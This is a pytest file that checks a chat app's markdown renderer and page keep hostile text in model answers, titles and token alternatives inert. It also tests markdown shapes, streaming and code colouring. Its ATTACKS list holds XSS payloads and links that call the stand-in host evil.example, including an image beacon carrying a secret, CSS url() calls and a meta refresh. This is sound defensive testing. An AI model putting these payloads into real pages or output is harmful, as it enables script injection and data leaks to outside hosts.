"""Strangers' words: hostile answers are text, and markdown is what it should be."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from server.page.browser import SAMPLE, TURNS, Page, api
from server.running import Server

ATTACKS = [
    "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "<svg onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "[click](javascript:alert(1))", "[click](JaVaScRiPt:alert(1))", "[click](java\nscript:alert(1))", "[click](&#106;avascript:alert(1))",
    "[click](\x01javascript:alert(1))", "[click](data:text/html,<script>alert(1)</script>)", "[click](vbscript:x)", "[click](//evil.example/x)",
    "[click](file:///etc/passwd)", "[click](<javascript:alert(1)>)", "<javascript:alert(1)>", "[a](blob:x)", "[a](/api/conversations)",
    "![pixel](https://evil.example/pixel.png?q=secret)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "[![x](https://evil.example/a)](https://evil.example/b)",
    "<style>*{background:url(https://evil.example/css)}</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href=https://evil.example ping=https://evil.example/ping>x</a>", "<base href=https://evil.example>", "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "```html\n<script>alert(1)</script>\n```", "```<script>alert(1)</script>\ncode\n```", "```\"onmouseover=alert(1)\ncode", "`<script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | b |\n|--|--|\n| [x](javascript:alert(1)) | <b onclick=alert(1)>y</b> |", "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))", "https://evil.example/\"onmouseover=alert(1)//",
    "[x](https://good.example/\" onclick=\"alert(1))", "[x](https://a.example 'title\" onload=alert(1)')", "&lt;script&gt;alert(1)&lt;/script&gt;", "{{7*7}} ${alert(1)}",
]  # fmt: skip
FINE = {
    "P", "BR", "EM", "STRONG", "S", "CODE", "A", "H2", "H3", "H4", "H5", "H6", "HR", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "SPAN", "FIGURE", "FIGCAPTION",
    "BUTTON", "DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD",
}  # fmt: skip
RENDER = """async ([text, live]) => {
  const { render, Live } = await import('/page/markdown.js');
  const box = document.createElement('div');
  document.body.append(box);
  if (live) { const it = new Live(box); for (let n = 1; n <= text.length; n += 1) it.show(text.slice(0, n)); }
  else box.append(...render(text));
  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  const all = [...box.querySelectorAll('*')];
  const found = {
    text: box.textContent, html: box.innerHTML, tags: [...new Set(all.map((e) => e.tagName))],
    attributes: [...new Set(all.flatMap((e) => e.getAttributeNames()))],
    links: all.filter((e) => e.tagName === 'A').map((e) => [e.protocol, e.rel, e.target]),
  };
  box.remove();
  return found;
}"""


@pytest.mark.parametrize("live", [False, True], ids=["whole", "streamed"])
def test_strangers_words_are_words(visit: Callable[..., Page], live: bool) -> None:
    page = visit()
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    for attack in [*ATTACKS, "\n\n".join(ATTACKS)]:
        found = page.evaluate(RENDER, [attack, live])
        assert set(found["tags"]) <= FINE, (attack, found["html"])
        assert set(found["attributes"]) <= {
            "href",
            "title",
            "target",
            "rel",
            "class",
            "tabindex",
            "role",
            "aria-label",
            "type",
            "data-copy",
            "start",
        }, attack
        assert all(
            p in ("http:", "https:") and "noopener" in rel and "noreferrer" in rel and t == "_blank"
            for p, rel, t in found["links"]
        ), attack
        if "<" in attack and "://" not in attack and "```" not in attack and "(<" not in attack:
            assert "<" in found["text"], f"{attack} lost its brackets: {found['text']}"


def test_a_strangers_answer_in_the_chat(visit: Callable[..., Page], site: Server) -> None:
    """The same through the store and the whole page: title, search, messages, tokens."""
    bad = "\n\n".join(ATTACKS)
    tokens = [[piece, -0.5, [[piece, -0.5], ["<b>", -1]]] for piece in ATTACKS]
    messages = [
        {"id": "a", "parent": None, "role": "user", "content": bad},
        {"id": "b", "parent": "a", "role": "assistant", "content": bad, "tokens": tokens},
    ]
    id = api(site, "/api/conversations", {"title": "<img src=x onerror=alert(1)>", "messages": messages})["id"]
    page = visit(f"/#{id}")
    page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
    page.locator(TURNS).wait_for()
    assert page.locator("#title").inner_text() == "<img src=x onerror=alert(1)>"
    page.fill("#search", "<img")
    page.locator(".item mark").first.wait_for()
    page.click("#tokens-toggle")
    page.locator(".strip .token").nth(3).click()
    page.locator(".alternatives").wait_for()
    assert page.locator("main img, main script, main iframe, .alternatives b").count() == 0


SHAPES = {
    "a *b* **c** ***d*** ~~e~~ `f` \\*g\\*": "<p>a <em>b</em> <strong>c</strong> <em><strong>d</strong></em> <s>e</s> <code>f</code> *g*</p>",
    "snake_case_name 2 * 3 * 4 a*b*c": "<p>snake_case_name 2 * 3 * 4 a<em>b</em>c</p>",
    "**bold *both* bold** and *open": "<p><strong>bold <em>both</em> bold</strong> and *open</p>",
    "``a ` b`` and ` open": "<p><code>a ` b</code> and ` open</p>",
    "one\ntwo\n\nthree": "<p>one<br>two</p><p>three</p>",
    "# a\n## b #\n####### c": "<h2>a</h2><h3>b</h3><p>####### c</p>",
    "- a\n- b\n  - c\n\n1. d\n2) e": "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><ol><li>d</li></ol><ol start=\"2\"><li>e</li></ol>",
    "3. x\n4. y": '<ol start="3"><li>x</li><li>y</li></ol>',
    "> a\n> - b": "<blockquote><p>a</p><ul><li>b</li></ul></blockquote>",
    "a\n- b": "<p>a</p><ul><li>b</li></ul>",
    "in 1999. nothing\n1984. A year": "<p>in 1999. nothing<br>1984. A year</p>",
    "---\n***": "<hr><hr>",
    "[a *b*](https://x.example/p_(q)_r 't') !": '<p><a href="https://x.example/p_(q)_r" title="https://x.example/p_(q)_r" target="_blank" rel="noopener noreferrer nofollow">a <em>b</em></a> !</p>',
    "[not a link] and [x] (y)": "<p>[not a link] and [x] (y)</p>",
}  # fmt: skip


def test_markdown_shapes(visit: Callable[..., Page]) -> None:
    page = visit()
    for text, html in SHAPES.items():
        assert page.evaluate(RENDER, [text, False])["html"] == html


def test_a_streamed_text_becomes_what_it_is_at_once(visit: Callable[..., Page]) -> None:
    page, text = visit(), SAMPLE.read_text()
    whole, streamed = (page.evaluate(RENDER, [text, live]) for live in (False, True))
    assert streamed["html"] == whole["html"]
    assert {"TABLE", "FIGURE", "UL", "OL", "BLOCKQUOTE", "HR", "H2"} <= set(whole["tags"])


def test_blocks_that_are_done_are_not_drawn_again(visit: Callable[..., Page]) -> None:
    page = visit()
    stayed = page.evaluate("""async () => {
      const { Live } = await import('/page/markdown.js');
      const box = document.createElement('div');
      const live = new Live(box);
      live.show('first\\n\\nsecond');
      const [first, second] = box.children;
      live.show('first\\n\\nsecond goes on\\n\\nthird');
      return [box.children[0] === first, box.children[1] === second, box.children.length];
    }""")
    assert stayed == [True, False, 3]


PIECES = ["*a ", "**", "[", "[a](", "`", "``a` ", "> ", "- ", "  - a\n", "~", "_a_", "|a", "|a|\n|-|\n", "<", "![", "https://", "(", "1. ", "#", "\\", "a\n> b\n", "*a_b~c[d"]  # fmt: skip


def test_no_text_takes_long(visit: Callable[..., Page]) -> None:
    """60,000 characters of anything are drawn within a second or so, not within the square of it."""
    page = visit()
    took = page.evaluate(
        """async (pieces) => {
      const { render } = await import('/page/markdown.js');
      return pieces.map((piece) => {
        const text = piece.repeat(60000 / piece.length), began = performance.now();
        render(text);
        return [piece, performance.now() - began];
      });
    }""",
        PIECES,
    )
    assert [(piece, ms) for piece, ms in took if ms > 2000] == []


def test_code_is_coloured_without_changing_it(visit: Callable[..., Page]) -> None:
    page = visit()
    samples = {
        "python": "# no\ndef f(x):\n    '''doc'''\n    return \"a\\\"b\" + 0x1F # if\n", "js": "const a = `x ${1}`; // let\n/* a */ let r = 'it'",
        "sql": "SELECT a FROM b -- where\nWHERE c = 'x'", "nosuch": "if 1", "rust": "fn main() { let c = 'x'; }", "json": '{"a": [1, true]}',
    }  # fmt: skip
    for name, code in samples.items():
        text, kinds = page.evaluate(
            """async ([code, name]) => {
          const { colour } = await import('/page/code.js');
          const box = document.createElement('pre');
          box.append(...colour(code, name));
          return [box.textContent, [...box.querySelectorAll('span')].map((s) => [s.className, s.textContent])];
        }""",
            [code, name],
        )
        assert text == code
        if name == "python":
            assert (
                ["comment", "# no"] in kinds
                and ["keyword", "def"] in kinds
                and ["number", "0x1F"] in kinds
                and ["string", '"a\\"b"'] in kinds
            )
            assert ["keyword", "if"] not in kinds
